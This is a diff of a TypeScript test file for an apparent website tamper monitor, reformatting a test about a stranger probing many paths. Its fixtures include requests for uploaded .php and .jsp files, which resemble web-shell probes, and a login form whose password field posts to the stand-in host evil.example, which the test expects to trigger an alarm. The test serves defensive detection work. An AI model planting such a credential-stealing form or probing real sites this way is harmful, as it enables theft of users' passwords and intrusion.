@@ -134,49 +134,46 @@ t.test('an app that changes as a whole: few notices, a bound of findings, silenc
   t.same(full, ['change'])
 })
 
-t.test(
-  'N3 · a stranger who only asks for paths crowds out no alarm, uses up no notice, and teaches nothing',
-  async t => {
-    const { gate, found, full, time } = lab()
-    const watch = await gate()
-    show(watch, html(), 20)
-    const ask = (page: string, isStranger: boolean) =>
-      watch.see({
-        page,
-        endpoint: { kind: 'endpoint', value: `POST ${page}` },
-        reading: null,
-        isFetched: false,
-        isStranger
-      })
-    const names = Array.from({ length: 40 }, (_, i) => `${String.fromCharCode(97 + (i % 26), 97 + Math.floor(i / 26))}`)
-    for (const name of names) ask(`/pub/${name}/go`, true)
+t.test('N3 · a stranger asks for many paths → no alarm is crowded out, no notice used up, nothing learned', async t => {
+  const { gate, found, full, time } = lab()
+  const watch = await gate()
+  show(watch, html(), 20)
+  const ask = (page: string, isStranger: boolean) =>
+    watch.see({
+      page,
+      endpoint: { kind: 'endpoint', value: `POST ${page}` },
+      reading: null,
+      isFetched: false,
+      isStranger
+    })
+  const names = Array.from({ length: 40 }, (_, i) => `${String.fromCharCode(97 + (i % 26), 97 + Math.floor(i / 26))}`)
+  for (const name of names) ask(`/pub/${name}/go`, true)
+  await watch.sync()
+  t.same(found, [])
+  for (const name of names) {
+    ask(`/uploads/${name}.php`, true)
     await watch.sync()
-    t.same(found, [])
-    for (const name of names) {
-      ask(`/uploads/${name}.php`, true)
-      await watch.sync()
-      time.advance(1)
-    }
-    t.equal(found.length, 4, 'a program among the files is an alarm, whoever has asked for it')
-    t.equal(found.filter(([, isTold]) => isTold).length, 2)
-    t.same(full, ['stranger'])
-    ask('/pub/ab/go', false)
-    await watch.sync()
-    t.match(found[4], [{ severity: 'change', page: '/pub/ab/go' }, true], 'the path was not learned')
-    for (const name of names) {
-      ask(`/files/${name}.jsp`, false)
-      await watch.sync()
-      time.advance(60)
-    }
-    t.same(full, ['stranger', 'program'], 'paths alone have few places')
-    show(watch, html('<form action="https://evil.example"><input type="password"></form>'), 1, '/login', true)
-    await watch.sync()
-    t.match(found.at(-1), [
-      { severity: 'alarm', page: '/login', why: /password is sent to https:\/\/evil\.example/ },
-      true
-    ])
+    time.advance(1)
   }
-)
+  t.equal(found.length, 4, 'a program among the files is an alarm, whoever has asked for it')
+  t.equal(found.filter(([, isTold]) => isTold).length, 2)
+  t.same(full, ['stranger'])
+  ask('/pub/ab/go', false)
+  await watch.sync()
+  t.match(found[4], [{ severity: 'change', page: '/pub/ab/go' }, true], 'the path was not learned')
+  for (const name of names) {
+    ask(`/files/${name}.jsp`, false)
+    await watch.sync()
+    time.advance(60)
+  }
+  t.same(full, ['stranger', 'program'], 'paths alone have few places')
+  show(watch, html('<form action="https://evil.example"><input type="password"></form>'), 1, '/login', true)
+  await watch.sync()
+  t.match(found.at(-1), [
+    { severity: 'alarm', page: '/login', why: /password is sent to https:\/\/evil\.example/ },
+    true
+  ])
+})
 
 t.test('alarms displace changes, and when alarms fill the list too, this is said', async t => {
   const { gate, found, full, changes } = lab()
